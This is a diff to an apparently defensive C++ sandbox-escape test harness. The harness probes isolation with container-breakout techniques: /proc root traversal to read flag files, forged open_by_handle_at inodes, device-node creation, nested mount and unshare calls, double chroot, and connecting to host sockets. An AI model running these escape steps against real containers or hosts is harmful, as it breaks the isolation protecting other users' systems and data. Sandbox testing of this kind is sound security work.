@@ -24,15 +24,12 @@ namespace {
 
 namespace fs = std::filesystem;
 
-void ReadTree(Attempt& attempt, const std::string& path, int depth) {
-  std::error_code error;
-  if (depth > 6) return;
-  if (fs::is_directory(fs::symlink_status(path, error))) {
-    for (const auto& entry : fs::directory_iterator(path, error))
-      ReadTree(attempt, entry.path(), depth + 1);
-    return;
-  }
-  if (fs::file_size(path, error) < 1 << 20) attempt.Data(ReadAll(path, 4096));
+void ReadTree(Attempt& attempt, const std::string& top) {
+  attempt.Data(ReadAll(top, 4096));
+  Walk(top, 6, [&](const std::string& path) {
+    std::error_code error;
+    if (fs::is_regular_file(fs::symlink_status(path, error))) attempt.Data(ReadAll(path, 4096));
+  });
 }
 
 // Words are paths of flags. Every way of spelling them that has worked somewhere.
@@ -40,7 +37,7 @@ void ReadFlags(Attempt& attempt) {
   std::string up;
   for (int i = 0; i < 40; ++i) up += "../";
   Words prefixes = {"", up, "/proc/self/root", "/proc/self/cwd/" + up, "/proc/thread-self/root"};
-  for (const std::string pid : {std::to_string(getppid()), std::string("1"), std::string("2")}) {
+  for (const std::string& pid : Words{std::to_string(getppid()), "1", "2"}) {
     prefixes.push_back("/proc/" + pid + "/root");
     prefixes.push_back("/proc/" + pid + "/cwd/" + up);
   }
@@ -53,7 +50,7 @@ void ReadFlags(Attempt& attempt) {
 }
 
 void ReadTrees(Attempt& attempt) {
-  for (const std::string& path : attempt.words) ReadTree(attempt, path, 0);
+  for (const std::string& path : attempt.words) ReadTree(attempt, path);
 }
 
 // Words: a marker name, then directories. New files where the host would run or believe them.
@@ -122,8 +119,8 @@ void DeviceNodes(Attempt& attempt) {
   const auto make = [&](mode_t type, unsigned major_number, unsigned minor_number) {
     const dev_t device = makedev(major_number, minor_number);
     if (mknod(path.c_str(), type | 0600, device) != 0) return attempt.Refused();
-    attempt.Got(fmt::format("{} {}:{}", type == S_IFBLK ? "block" : "char", major_number,
-                            minor_number));
+    attempt.Got(
+        fmt::format("{} {}:{}", type == S_IFBLK ? "block" : "char", major_number, minor_number));
     unlink(path.c_str());
   };
   make(S_IFCHR, 0, 0);
@@ -137,20 +134,18 @@ void DeviceNodes(Attempt& attempt) {
 
 // Only looks: opening a watchdog would restart a machine whose sandbox leaks.
 void WalkDev(Attempt& attempt) {
-  std::error_code error;
-  for (const auto& entry : fs::recursive_directory_iterator(
-           "/dev", fs::directory_options::skip_permission_denied, error)) {
+  Walk("/dev", 4, [&](const std::string& path) {
     struct stat info {};
-    if (lstat(entry.path().c_str(), &info) != 0) continue;
-    if (S_ISBLK(info.st_mode)) attempt.Got(entry.path());
-    if (!S_ISCHR(info.st_mode)) continue;
+    if (lstat(path.c_str(), &info) != 0) return;
+    if (S_ISBLK(info.st_mode)) attempt.Got(path);
+    if (!S_ISCHR(info.st_mode)) return;
     const unsigned major_number = major(info.st_rdev), minor_number = minor(info.st_rdev);
     const bool memory = major_number == 1 && (minor_number == 3 || minor_number == 5 ||
                                               (minor_number >= 7 && minor_number <= 9));
     const bool terminal = (major_number == 5 && (minor_number == 0 || minor_number == 2)) ||
                           (major_number >= 136 && major_number <= 143);
-    if (!memory && !terminal) attempt.Got(entry.path());
-  }
+    if (!memory && !terminal) attempt.Got(path);
+  });
 }
 
 // Words: a directory whose name carries the token of this run.
@@ -173,8 +168,8 @@ void Mounts(Attempt& attempt) {
     attempt.Try(name("open_tree"), syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* CLONE */));
     attempt.Try(name("move_mount"), syscall(SYS_move_mount, AT_FDCWD, "/", AT_FDCWD, to, 0));
     uint64_t attributes[4] = {0, MS_RDONLY, 0, 0};
-    attempt.Try(name("mount_setattr"), syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, attributes,
-                                               sizeof attributes));
+    attempt.Try(name("mount_setattr"),
+                syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, attributes, sizeof attributes));
   };
   all("");
   if (attempt.Try("unshare user+mount", unshare(CLONE_NEWUSER | CLONE_NEWNS))) all("nested ");
@@ -207,7 +202,8 @@ void Handles(Attempt& attempt) {
       continue;
     }
     const int at = open(path.c_str(), O_RDONLY | O_CLOEXEC);
-    attempt.Try("handle of " + path, open_by_handle_at(at, &handle.head, O_RDONLY));
+    for (const int flags : {O_RDONLY, O_RDONLY | O_DIRECTORY})
+      attempt.Try("handle of " + path, open_by_handle_at(at, &handle.head, flags));
     for (uint32_t inode : {2u, 64u, 128u, 256u, 3u}) {
       memcpy(handle.head.f_handle, &inode, sizeof inode);
       attempt.Try(fmt::format("forged inode {}", inode),
@@ -285,8 +281,8 @@ void OverlayAttributes(Attempt& attempt) {
       // The user's own namespace is his; there the flag in the output decides.
       if (space == "trusted.") attempt.Try(name, result);
     }
-  ReadTree(attempt, at, 0);
-  ReadTree(attempt, hidden, 0);
+  ReadTree(attempt, at);
+  ReadTree(attempt, hidden);
 }
 
 // Words: paths of sockets and FIFOs behind which the host listens.
@@ -316,17 +312,12 @@ void PathSockets(Attempt& attempt) {
 
 // Words: directories. Files of the host's services that somebody could listen behind.
 void FindSockets(Attempt& attempt) {
-  std::error_code error;
   Words found;
-  for (const std::string& top : attempt.words) {
-    auto walk = fs::recursive_directory_iterator(
-        top, fs::directory_options::skip_permission_denied, error);
-    for (int seen = 0; !error && walk != fs::end(walk) && seen < 50'000; walk.increment(error)) {
-      ++seen;
-      if (walk.depth() > 5) walk.disable_recursion_pending();
-      if (walk->is_socket(error)) found.push_back(walk->path());
-    }
-  }
+  for (const std::string& top : attempt.words)
+    Walk(top, 5, [&](const std::string& path) {
+      struct stat info {};
+      if (lstat(path.c_str(), &info) == 0 && S_ISSOCK(info.st_mode)) found.push_back(path);
+    });
   for (const std::string& path : found) {
     sockaddr_un address{};
     address.sun_family = AF_UNIX;
@@ -356,16 +347,33 @@ void PlantResidue(Attempt& attempt) {
     std::ofstream(attempt.words[i] + "/residue-" + std::to_string(getpid())) << attempt.words[0];
 }
 
+void FindResidue(Attempt& attempt) {
+  for (const std::string& top : attempt.words)
+    Walk(top, 1, [&](const std::string& path) {
+      if (fs::path(path).filename().string().starts_with("residue-")) attempt.Data(ReadAll(path));
+    });
+}
+
 constexpr Attack kAttacks[] = {
-    {"read-flags", ReadFlags},       {"read-trees", ReadTrees},
-    {"write-markers", WriteMarkers}, {"hard-links", HardLinks},
-    {"change-files", ChangeFiles},   {"device-nodes", DeviceNodes},
-    {"walk-dev", WalkDev},           {"mounts", Mounts},
-    {"unmounts", Unmounts},          {"handles", Handles},
-    {"double-chroot", DoubleChroot}, {"set-user-id", SetUserId},
-    {"hold", Hold},                  {"overlay-attributes", OverlayAttributes},
-    {"path-sockets", PathSockets},   {"find-sockets", FindSockets},
-    {"plant-links", PlantLinks},     {"plant-residue", PlantResidue},
+    {"find-residue", FindResidue},
+    {"read-flags", ReadFlags},
+    {"read-trees", ReadTrees},
+    {"write-markers", WriteMarkers},
+    {"hard-links", HardLinks},
+    {"change-files", ChangeFiles},
+    {"device-nodes", DeviceNodes},
+    {"walk-dev", WalkDev},
+    {"mounts", Mounts},
+    {"unmounts", Unmounts},
+    {"handles", Handles},
+    {"double-chroot", DoubleChroot},
+    {"set-user-id", SetUserId},
+    {"hold", Hold},
+    {"overlay-attributes", OverlayAttributes},
+    {"path-sockets", PathSockets},
+    {"find-sockets", FindSockets},
+    {"plant-links", PlantLinks},
+    {"plant-residue", PlantResidue},
 };
 
 }  // namespace
